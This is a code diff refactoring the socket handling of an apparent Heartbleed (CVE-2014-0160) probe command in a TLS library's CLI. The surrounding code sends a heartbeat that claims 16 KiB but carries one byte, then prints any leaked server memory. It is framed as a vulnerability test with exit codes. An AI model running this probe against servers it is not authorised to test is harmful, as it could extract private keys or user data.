@@ -3,15 +3,13 @@
 // honest request, then sends one that claims 16 KiB but carries one byte.
 // A correct server discards it silently; a vulnerable one (CVE-2014-0160,
 // or glass server --heartbleed-demo) answers with memory it was never sent.
-#include <poll.h>
-#include <sys/socket.h>
 #include <unistd.h>
 
-#include <chrono>
 #include <iostream>
 
 #include "cli.hpp"
 #include "glasstls/handshake_client.hpp"
+#include "glasstls/socket_driver.hpp"
 #include "net.hpp"
 
 namespace glass {
@@ -25,25 +23,6 @@ const char* kUsage =
     "The server's certificate is not verified: this is a probe, not a client to trust.\n"
     "Exit 0: nothing leaked (heartbeats unsupported, or the lie discarded); 1: the server\n"
     "LEAKED bytes (shown); 2: it could not be tested.\n";
-
-// Reads and feeds until `done` or `ms` pass; false when the connection ended.
-bool wait_for(Connection& c, int fd, int ms, const std::function<bool()>& done) {
-    const auto until = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
-    std::uint8_t buf[16384];
-    while (!done()) {
-        const Bytes out = c.take_output();
-        if (!out.empty() && !write_all(fd, out.data(), out.size())) return false;
-        const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(until - std::chrono::steady_clock::now()).count();
-        if (left <= 0) return true;
-        pollfd p{fd, POLLIN, 0};
-        if (poll(&p, 1, static_cast<int>(left)) <= 0) continue;
-        const ssize_t r = recv(fd, buf, sizeof buf, 0);
-        if (r <= 0) return false;
-        c.receive({buf, static_cast<std::size_t>(r)});
-    }
-    const Bytes out = c.take_output();
-    return out.empty() || write_all(fd, out.data(), out.size());
-}
 
 void show(const Bytes& leaked) {
     std::cout << "  what came back, beyond the 1 byte we sent (" << leaked.size() - 1 << " bytes):\n";
@@ -84,9 +63,15 @@ int cmd_heartbleed(const std::vector<std::string>& argv) {
     }
     Connection conn(crypto::system_random(), nullptr);
     conn.set_engine(std::make_unique<ClientHandshake>(conn, config));
+    SocketDriver driver(conn, fd, Deadlines{.handshake_ms = 10000});
+    // Waits `ms` for whatever the server says; false when the connection ended.
+    auto listen = [&](int ms) {
+        const Wake w = driver.wait_until([] { return false; }, ms);
+        return w == Wake::quiet || w == Wake::progress;
+    };
     try {
         conn.start();
-        if (!wait_for(conn, fd, 10000, [&] { return conn.handshake_done(); }) || !conn.handshake_done()) {
+        if (driver.handshake() != Wake::progress) {
             std::cout << "COULD NOT TEST: the TLS 1.2 handshake did not complete\n";
             close(fd);
             return 2;
@@ -98,7 +83,7 @@ int cmd_heartbleed(const std::vector<std::string>& argv) {
             return 0;
         }
         conn.send_heartbeat(as_bytes("honest"));
-        wait_for(conn, fd, timeout_ms, [&] { return false; });
+        listen(timeout_ms);
         const std::vector<Bytes> honest = conn.take_heartbeat_responses();
         if (honest.empty()) {
             std::cout << "COULD NOT TEST: the server agreed to heartbeats but did not answer an honest one\n";
@@ -108,7 +93,7 @@ int cmd_heartbleed(const std::vector<std::string>& argv) {
         std::cout << "The server agreed to heartbeats and answered an honest one ('honest', 6 bytes).\n"
                   << "Now a HeartbeatRequest that claims " << claim << " bytes of payload but carries 1 ...\n";
         conn.send_heartbeat(as_bytes("A"), static_cast<std::uint16_t>(claim));
-        const bool open = wait_for(conn, fd, timeout_ms, [&] { return false; });
+        const bool open = listen(timeout_ms);
         const std::vector<Bytes> lie = conn.take_heartbeat_responses();
         close(fd);
         if (!lie.empty() && lie[0].size() > 1) {
